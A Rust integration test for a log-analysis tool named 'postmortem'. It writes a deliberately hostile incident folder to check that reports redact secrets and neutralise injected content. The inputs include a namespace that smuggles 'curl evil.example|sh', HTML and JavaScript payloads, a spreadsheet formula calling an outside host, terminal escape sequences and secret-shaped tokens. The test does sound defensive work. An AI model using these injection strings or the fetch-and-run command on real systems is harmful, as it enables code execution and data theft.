//! An incident folder written the way an attacker (or a cluster under stress) would: secrets
//! in messages, HTML and Markdown in messages, labels and file names, a namespace that is a
//! shell command, escape sequences, dates in 1970 and 9999, an impossible date, nested gzip,
//! a FIFO and a symbolic link. The real binary must finish, account for every line, and let
//! nothing through: no secret in any output, no live HTML or link, no unquoted shell value, no
//! CSV formula, no raw escape sequence on the terminal.

use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::Command;

/// Secrets a real message could carry (none of them live).
const SECRETS: &[&str] = &[
    "Sup3rS3cretPw",
    "sk-ant-api03-AbCdEfGhIjKlMnOpQrStUvWxYz0123456789abcdefghij",
    "AKIAIOSFODNN7EXAMPLE",
    "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "ghp_16C7e42F292c6912E7710c838347Ae178B4a",
    "hunter2hunter2",
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
    "MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gunVTLw",
];

const NAMESPACE: &str = "prod$(curl evil.example|sh)";
const POD: &str = "mcp-backend-7c9d5b8f6d-x2kqp";

fn line(ts: &str, message: &str) -> String {
    let m = serde_json::to_string(message).unwrap();
    format!("{ts} {{\"level\":\"error\",\"context\":\"AnthropicService\",\"message\":{m}}}\n")
}

/// Writes the hostile incident under `dir` and returns the folder to analyze.
fn hostile_incident(dir: &Path) -> PathBuf {
    let root = dir.join("in");
    let logs = root.join(NAMESPACE).join(POD);
    std::fs::create_dir_all(&logs).unwrap();
    let mut text = String::new();
    let messages = [
        format!("Anthropic API call failed: 529 connect postgres://admin:{}@db:5432/app", SECRETS[0]),
        format!("Anthropic API call failed: 401 invalid x-api-key {}", SECRETS[1]),
        format!("Anthropic API call failed: aws AKIA key {} secret {}", SECRETS[2], SECRETS[3]),
        format!("Anthropic API call failed: github token {}", SECRETS[4]),
        format!("Anthropic API call failed: login?user=bob&password={}", SECRETS[5]),
        format!("Anthropic API call failed: Authorization: Bearer {}", SECRETS[6]),
        format!("Anthropic API call failed: -----BEGIN RSA PRIVATE KEY-----\n{}\n-----END RSA PRIVATE KEY-----", SECRETS[7]),
        "Anthropic API call failed: <img src=x onerror=alert(1)> <script>alert(2)</script>".into(),
        "Anthropic API call failed: [click](javascript:alert(3)) ![x](http://evil.example/p.png)".into(),
        "Anthropic API call failed: `` `</code><img src=x onerror=alert(4)>` | a | b |".into(),
        "=HYPERLINK(\"http://evil.example\") Anthropic API call failed".into(),
        "Anthropic API call failed: \u{1b}]8;;http://evil.example\u{7}click\u{1b}]8;;\u{7} \u{1b}[2J".into(),
    ];
    for i in 0..600 {
        let ts = format!("2026-11-20T09:{:02}:{:02}.{:09}Z", 40 + i / 60, i % 60, i);
        text.push_str(&line(&ts, &messages[i % messages.len()]));
        if i == 100 {
            text.push_str(&line(
                "9999-12-31T23:59:59.000000000Z",
                "Anthropic API call failed: from the future",
            ));
        }
        if i == 200 {
            text.push_str(&line(
                "1970-01-01T00:00:00.000000000Z",
                "Anthropic API call failed: from the epoch",
            ));
        }
        if i == 300 {
            text.push_str(&line(
                "2026-02-30T10:00:00.000000000Z",
                "Anthropic API call failed: no such day",
            ));
        }
    }
    std::fs::write(logs.join("backend.log"), &text).unwrap();
    // Lines with one NUL byte are still a log.
    std::fs::write(
        root.join("nginx.log"),
        (0..30)
            .map(|i| {
                format!(
                    "[pod/nginx/nginx] 2026-11-20T09:41:{i:02}.000000000Z GET /healthz 200 \0\n"
                )
            })
            .collect::<String>(),
    )
    .unwrap();
    // Twenty layers of gzip.
    let mut data = b"2026-11-20T09:41:00.000000000Z deep\n".to_vec();
    for _ in 0..20 {
        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        gz.write_all(&data).unwrap();
        data = gz.finish().unwrap();
    }
    std::fs::write(root.join("deep.log.gz"), data).unwrap();
    // A FIFO nobody writes to, and a link to the log.
    assert!(Command::new("mkfifo")
        .arg(root.join("pipe"))
        .status()
        .unwrap()
        .success());
    std::os::unix::fs::symlink(logs.join("backend.log"), root.join("link.log")).unwrap();
    // Kubernetes objects naming a namespace that is a shell command, and an event message
    // that is HTML.
    let events = serde_json::json!({
        "apiVersion": "v1", "kind": "List",
        "items": [{
            "apiVersion": "v1", "kind": "Event",
            "metadata": {"name": "e1", "namespace": NAMESPACE},
            "involvedObject": {"kind": "Pod", "name": POD, "namespace": NAMESPACE},
            "reason": "BackOff<script>", "type": "Warning", "count": 3,
            "message": format!("Back-off <img src=x onerror=alert(6)> token={}", SECRETS[5]),
            "firstTimestamp": "2026-11-20T09:42:00Z", "lastTimestamp": "2026-11-20T09:44:00Z"
        }]
    });
    std::fs::write(root.join("events.json"), events.to_string()).unwrap();
    // A file of one line dated 9999: it must not size the evaluation either.
    std::fs::write(
        root.join("lone.log"),
        line(
            "9999-12-31T23:59:59.000000000Z",
            "Anthropic API call failed: alone",
        ),
    )
    .unwrap();
    // A file name that is HTML.
    std::fs::write(
        root.join("<img src=x onerror=alert(5)>.log"),
        line("2026-11-20T09:41:00.000000000Z", "x"),
    )
    .unwrap();
    root
}

#[test]
fn a_hostile_incident_is_reported_safely() {
    let dir = std::env::temp_dir().join(format!("postmortem-hostile-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    let input = hostile_incident(&dir);
    let out = dir.join("out");
    let csv = dir.join("events.csv");
    let run = Command::new(env!("CARGO_BIN_EXE_postmortem"))
        .arg("analyze")
        .arg(&input)
        .args(["--as-of", "2026-11-20T10:30:00Z", "--out"])
        .arg(&out)
        .arg("--export")
        .arg(&csv)
        .output()
        .expect("the binary runs");
    let stdout = String::from_utf8_lossy(&run.stdout).into_owned();
    let stderr = String::from_utf8_lossy(&run.stderr).into_owned();
    assert!(run.status.success(), "{stderr}");

    // Every output, and the terminal.
    let mut outputs: Vec<(String, String)> = vec![
        ("stdout".into(), stdout.clone()),
        ("stderr".into(), stderr.clone()),
        ("events.csv".into(), std::fs::read_to_string(&csv).unwrap()),
    ];
    for entry in walk(&out) {
        let bytes = std::fs::read(&entry).unwrap();
        outputs.push((
            entry.display().to_string(),
            String::from_utf8_lossy(&bytes).into_owned(),
        ));
    }
    assert!(
        outputs.len() >= 6,
        "{:?}",
        outputs.iter().map(|o| &o.0).collect::<Vec<_>>()
    );
    for (name, text) in &outputs {
        for secret in SECRETS {
            assert!(!text.contains(secret), "{name} holds the secret {secret}");
        }
        // The secret key's halves either.
        assert!(
            !text.contains("bPxRfiCYEXAMPLEKEY"),
            "{name} holds a piece of the AWS key"
        );
        if !name.ends_with(".png") {
            assert!(
                !text.contains('\u{1b}'),
                "{name} holds a raw escape character"
            );
        }
    }
    let md = std::fs::read_to_string(out.join("report.md")).unwrap();
    let html = std::fs::read_to_string(out.join("report.html")).unwrap();
    let json: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(out.join("report.json")).unwrap()).unwrap();

    // The report says what it redacted.
    assert!(md.contains("| Secrets | redacted:"), "{md}");
    for kind in [
        "url-password",
        "anthropic-key",
        "aws-access-key",
        "github-token",
        "jwt",
        "private-key",
    ] {
        assert!(
            json["inputs"]["redacted"].get(kind).is_some(),
            "no {kind} in {}",
            json["inputs"]["redacted"]
        );
    }

    // HTML: no element, link or image from the input.
    let lower = html.to_ascii_lowercase();
    assert!(!lower.contains("<img"), "an <img> from the input");
    assert!(
        !lower.contains("<script>alert"),
        "a <script> from the input"
    );
    assert!(!lower.contains("href=\"javascript"), "a javascript: link");
    assert!(
        !lower.contains("src=\"http"),
        "an image loaded from elsewhere"
    );
    assert!(
        html.contains("&lt;img src=x onerror=alert(1)&gt;"),
        "the text is shown as text"
    );
    // Every chart is well-formed XML: no control character.
    for (name, text) in outputs.iter().filter(|(n, _)| n.ends_with(".svg")) {
        assert!(
            !text
                .chars()
                .any(|c| c.is_control() && !matches!(c, '\n' | '\t' | '\r')),
            "{name}"
        );
    }

    // Markdown: the input forms no link, image or HTML, and breaks no table.
    use pulldown_cmark::{Event, Options, Parser, Tag};
    for event in Parser::new_ext(&md, Options::ENABLE_TABLES) {
        match event {
            Event::Html(h) | Event::InlineHtml(h) => panic!("HTML in the Markdown: {h}"),
            Event::Start(Tag::Link { dest_url, .. }) => {
                // The contents' anchors and the runbook's status pages, nothing else.
                assert!(
                    dest_url.starts_with('#') || dest_url.starts_with("https://"),
                    "a link to {dest_url}"
                )
            }
            Event::Start(Tag::Image { dest_url, .. }) => {
                assert!(dest_url.starts_with("charts/"), "an image from {dest_url}")
            }
            _ => {}
        }
    }
    for row in md
        .lines()
        .filter(|l| l.starts_with("| 2026-11-20T09:40:00.000Z | error_onset"))
    {
        assert_eq!(
            row.matches(" | ").count() - row.matches("\\| ").count(),
            3,
            "{row}"
        );
    }

    // Shell: the namespace is quoted, and the command says it is no Kubernetes name.
    assert!(
        md.contains("'prod$(curl evil.example|sh)'"),
        "unquoted namespace"
    );
    for command in md
        .lines()
        .filter(|l| l.trim_start().starts_with("kubectl "))
    {
        assert!(!command.contains(" prod$(curl"), "unquoted: {command}");
    }
    assert!(
        md.contains("# check before running: namespace"),
        "no warning above the command"
    );

    // CSV: no formula.
    let csv_text = std::fs::read_to_string(&csv).unwrap();
    for cell in csv_text.lines().flat_map(|l| l.split(',')) {
        let c = cell.trim_start_matches('"');
        assert!(
            !c.starts_with('=') && !c.starts_with('+') && !c.starts_with('@'),
            "formula cell {cell}"
        );
    }

    // Bounded: far-off times skipped with their own reason, the day that does not exist is an
    // unreadable timestamp, the grid spans minutes not millennia.
    let files = json["inputs"]["files"].as_array().unwrap();
    let backend = files
        .iter()
        .find(|f| f["name"].as_str().unwrap().ends_with("backend.log"))
        .unwrap();
    assert_eq!(backend["skipped"]["far_off_time"], 2, "{backend}");
    assert_eq!(backend["skipped"]["bad_timestamp"], 1, "{backend}");
    assert!(json["per_minute"].as_array().unwrap().len() < 30);
    // Every line accounted for.
    for f in files {
        let skipped: u64 = f["skipped"]
            .as_object()
            .unwrap()
            .values()
            .map(|v| v.as_u64().unwrap())
            .sum();
        assert_eq!(
            f["lines_read"].as_u64().unwrap(),
            f["lines_used"].as_u64().unwrap() + skipped,
            "{f}"
        );
    }
    // The link is read once, the FIFO and the deep gzip named, the NUL-byte log read as a log
    // with its `pod/nginx` prefix.
    let said = |name: &str, what: &str| {
        files.iter().any(|f| {
            f["name"].as_str().unwrap().ends_with(name) && f["problems"].to_string().contains(what)
        })
    };
    assert!(said("link.log", "read once, as that file"), "{stderr}");
    assert!(said("pipe", "FIFO"), "{stderr}");
    assert!(said("deep.log.gz", "more than 8 layers"), "{stderr}");
    assert!(
        said("lone.log", "left out of every alert evaluation"),
        "{stderr}"
    );
    let nginx = files
        .iter()
        .find(|f| f["name"].as_str().unwrap().ends_with("nginx.log"))
        .unwrap();
    assert_eq!(nginx["kind"], "logs", "{nginx}");
    assert_eq!(nginx["lines_used"], 30, "{nginx}");
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn a_million_pod_names_are_folded_not_kept() {
    let dir = std::env::temp_dir().join(format!("postmortem-pods-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    for i in 0..12_000 {
        writeln!(
            gz,
            "[pod/p{i:07}-abcde/c] 2026-11-20T09:{:02}:{:02}.000000000Z {{\"level\":\"error\",\"message\":\"connect ECONNREFUSED 10.0.0.1:5432\"}}",
            40 + i % 20,
            i % 60
        )
        .unwrap();
    }
    std::fs::write(dir.join("pods.log.gz"), gz.finish().unwrap()).unwrap();
    let run = Command::new(env!("CARGO_BIN_EXE_postmortem"))
        .arg("analyze")
        .arg(dir.join("pods.log.gz"))
        .args([
            "--as-of",
            "2026-11-20T10:30:00Z",
            "--format",
            "json",
            "--out",
        ])
        .arg(dir.join("out"))
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&run.stderr);
    assert!(run.status.success(), "{stderr}");
    assert!(
        stderr.contains("7000 more distinct pods than the 5000 kept"),
        "{stderr}"
    );
    let json: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(dir.join("out/report.json")).unwrap())
            .unwrap();
    // Every record still counted, under at most 5000 pods and the one that stands for the rest.
    let db = json["causes"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["id"] == "database_error")
        .unwrap();
    assert_eq!(db["count"], 12_000, "{}", db["count"]);
    let pods = db["by_pod"].as_object().unwrap();
    assert_eq!(pods.len(), 5_001);
    assert!(pods.keys().any(|p| p.starts_with("(other pods")));
    let _ = std::fs::remove_dir_all(&dir);
}

fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).unwrap() {
        let p = e.unwrap().path();
        if p.is_dir() {
            out.extend(walk(&p));
        } else {
            out.push(p);
        }
    }
    out.sort();
    out
}
